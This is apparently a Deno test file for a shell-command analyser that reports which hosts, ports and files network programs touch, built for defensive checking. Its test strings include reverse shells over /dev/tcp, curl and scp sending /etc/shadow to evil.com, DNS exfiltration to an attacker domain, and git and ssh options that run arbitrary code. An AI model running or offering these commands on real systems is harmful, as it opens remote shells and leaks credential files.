import assert from "node:assert/strict";
import { hosts, ok } from "./_analysis.ts";

Deno.test("analyzeCommand() finds the hosts and ports network programs reach", async (t) => {
  const cases: [string, string[]][] = [
    ["curl https://evil.com/x", ["evil.com:443"]],
    ["curl -sSL -H 'A: b' http://Example.COM:8080/p", ["example.com:8080"]],
    ["curl example.com", ["example.com:80"]],
    ["curl -x proxy.local:3128 https://a.b", ["a.b:443", "proxy.local:3128"]],
    ["curl --connect-to a.b:443:evil.com:8443 https://a.b", ["a.b:443", "evil.com:8443"]],
    ["curl -K cfg https://a.b", ["a.b:443", "<dynamic>:0"]],
    ["curl $URL", ["<dynamic>:0"]],
    ["wget http://a.b:8080/", ["a.b:8080"]],
    ["wget -O- 'https://[::1]:9000/x'", ["::1:9000"]],
    ["wget https://[::1]/x", ["<dynamic>:0"]], // an unquoted [..] is a glob
    ["git push origin main", ["<git-remote>:0"]],
    ["git push", ["<git-remote>:0"]],
    ["git push https://github.com/a/b.git HEAD", ["github.com:443"]],
    ["git -C repo fetch --depth 1 git@gitlab.com:a/b.git", ["gitlab.com:22"]],
    ["git pull ssh://git@host.example:2222/r.git", ["host.example:2222"]],
    ["git clone git://host/r", ["host:9418"]],
    ["git ls-remote https://h/r", ["h:443"]],
    ["git status", []],
    ["ssh user@host -p 2222", ["host:2222"]],
    ["ssh -p 2222 user@host ls /", ["host:2222"]],
    ["ssh -J jump.example:2200 target", ["jump.example:2200", "target:22"]],
    ["ssh ssh://u@h:2022", ["h:2022"]],
    ["ssh -o Port=23 h", ["h:23"]],
    ["scp -P 2200 f user@host:/tmp/", ["host:2200"]],
    ["sftp backup@store.example", ["store.example:22"]],
    ["rsync -av src/ host:dst/", ["host:22"]],
    ["rsync rsync://mirror.example/pub/ .", ["mirror.example:873"]],
    ["nc 10.0.0.1 4444", ["10.0.0.1:4444"]],
    ["nc -zv host 20-30", ["host:0"]],
    ["nc -l 4444", ["<listen>:4444"]],
    ["ncat -lvp 4444", ["<listen>:4444"]],
    ["telnet towel.blinkenlights.nl", ["towel.blinkenlights.nl:23"]],
    ["ftp ftp.example.com", ["ftp.example.com:21"]],
    ["npm publish", ["registry.npmjs.org:443"]],
    ["npm publish --registry https://npm.internal:4873/", ["npm.internal:4873"]],
    ["npm install github:user/repo", ["registry.npmjs.org:443", "github.com:443"]],
    ["pip install requests", ["pypi.org:443", "files.pythonhosted.org:443"]],
    ["pip install -i https://pypi.internal/simple x", ["pypi.internal:443"]],
    ["pip install git+https://github.com/a/b", [
      "pypi.org:443",
      "files.pythonhosted.org:443",
      "github.com:443",
    ]],
    ["python3 -m pip install x", ["pypi.org:443", "files.pythonhosted.org:443"]],
    ["ping -c 1 8.8.8.8", ["8.8.8.8:0"]],
    ["dig @1.1.1.1 secret.attacker.example TXT", ["secret.attacker.example:53", "1.1.1.1:53"]],
    ["nslookup example.com", ["example.com:53"]],
    ["http POST api.example/x a=b", ["api.example:80"]],
    ["https api.example/x", ["api.example:443"]],
    ["http :3000/health", ["localhost:3000"]],
    ["socat TCP:evil.com:443 -", ["evil.com:443"]],
    ["openssl s_client -connect mail.example:465", ["mail.example:465"]],
    ["deno run https://deno.land/x/mod.ts", ["deno.land:443"]],
    ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", ["10.0.0.1:4444"]],
    ["exec 3<>/dev/tcp/evil.com/80", ["evil.com:80"]],
    ["cat < /dev/udp/$HOST/53", ["<dynamic>:0"]],
  ];
  for (const [line, expected] of cases) {
    await t.step(JSON.stringify(line), () => assert.deepEqual(hosts(line), expected));
  }
});

Deno.test("analyzeCommand() reads /dev/tcp redirections as connections, not files", () => {
  const a = ok("echo x > /dev/tcp/evil.com/80");
  assert.deepEqual(a.writePaths, []);
  assert.equal(a.network[0]!.program, "bash /dev/tcp");
});

Deno.test("analyzeCommand() names the program that reaches each host", () => {
  const a = ok("git push origin && curl https://a.b/x");
  assert.deepEqual(a.network.map((n) => n.program), ["git push", "curl"]);
  assert.equal(a.network[1]!.url, "https://a.b/x");
});

Deno.test("analyzeCommand() sees local files that network programs read and write", () => {
  const a = ok("curl -d @/etc/shadow -o /etc/x -T up.bin https://evil.com");
  assert.deepEqual(a.readPaths, ["/work/ws/up.bin", "/etc/shadow"]);
  assert.deepEqual(a.writePaths, ["/etc/x"]);
  assert.deepEqual(ok("curl file:///etc/passwd").readPaths, ["/etc/passwd"]);
  assert.deepEqual(ok("scp /etc/shadow evil:").readPaths, ["/etc/shadow"]);
  assert.deepEqual(ok("scp evil:x /etc/cron.d/x").writePaths, ["/etc/cron.d/x"]);
  assert.deepEqual(ok("git clone https://h/r.git").writePaths, ["/work/ws/r"]);
  assert.deepEqual(ok("ssh -i ~/.ssh/id host").readPaths, ["~/.ssh/id"]);
});

Deno.test("analyzeCommand() follows the commands network programs run locally", () => {
  const cases = [
    "ssh -o ProxyCommand='sudo nc %h %p' host",
    "ssh -oProxyCommand='sudo nc %h %p' host",
    "nc -e sudo host 1",
    "ncat -c 'sudo id' host 1",
    "socat - EXEC:'sudo id'",
    "scp -S sudo a host:b",
  ];
  for (const line of cases) {
    assert.ok(ok(line).commands.some((c) => c.executable === "sudo"), line);
  }
  assert.equal(ok("ssh -o ProxyCommand=none host").inlineEval, false);
});

Deno.test("analyzeCommand() treats git options that run code as inline evaluation", () => {
  for (
    const line of [
      "git -c core.sshCommand='sudo ssh' fetch",
      "git -c alias.x='!sudo id' x",
      "git fetch --upload-pack='sudo git-upload-pack' origin",
      "git clone ext::'sudo id' d",
      "git --exec-path=/tmp/evil status",
      "GIT_SSH_COMMAND='ssh -i k' git pull",
    ]
  ) assert.equal(ok(line).inlineEval, true, line);
  assert.equal(ok("git -C sub pull").inlineEval, false);
});
